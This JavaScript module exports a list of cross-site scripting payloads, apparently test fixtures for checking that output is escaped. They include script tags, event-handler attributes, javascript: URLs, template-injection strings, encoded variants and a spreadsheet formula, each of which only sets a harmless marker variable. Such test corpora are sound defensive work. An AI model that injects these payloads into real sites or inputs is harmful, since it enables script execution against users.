const run = "window.__ran=1";

/** Payloads that run a script wherever output is not escaped. */
export const markup = [
  ...[`<script>${run}</script>`, `</script><script>${run}</script>`, `<img src=x onerror=${run}>`],
  ...[`"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `<svg onload=${run}>`, `<svg/onload=${run}>`],
  ...[`"><svg onload=${run}>`, `<body onload=${run}>`, `<iframe src="javascript:${run}">`],
  ...[`<iframe srcdoc="<script>parent.__ran=1</script>">`, `<a href="javascript:${run}">x</a>`, `javascript:${run}`],
  ...[`data:text/html,<script>${run}</script>`, `<input autofocus onfocus=${run}>`, `" autofocus onfocus="${run}`],
  ...[`' autofocus onfocus='${run}`, `<details open ontoggle=${run}>`, `<video><source onerror=${run}>`],
  ...[`<audio src=x onerror=${run}>`, `<object data="javascript:${run}">`, `<embed src="javascript:${run}">`],
  ...[`<math><mi xlink:href="javascript:${run}">x`, `<form action="javascript:${run}"><button>x`],
  ...[`<button formaction="javascript:${run}">x`, `<marquee onstart=${run}>`],
  ...[`<style>@import 'javascript:${run}';</style>`, `<link rel=stylesheet href="javascript:${run}">`],
  ...[`<base href="javascript:${run}//">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`],
  ...[`<!--><script>${run}</script>-->`, `<![CDATA[<script>${run}</script>]]>`],
  ...[`\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `&lt;script&gt;${run}&lt;/script&gt;`],
  ...[`%3Cscript%3E${run}%3C/script%3E`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`],
  ...[`<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><script>${run}</script></template>`],
  `=HYPERLINK("javascript:${run}","x")`,
];
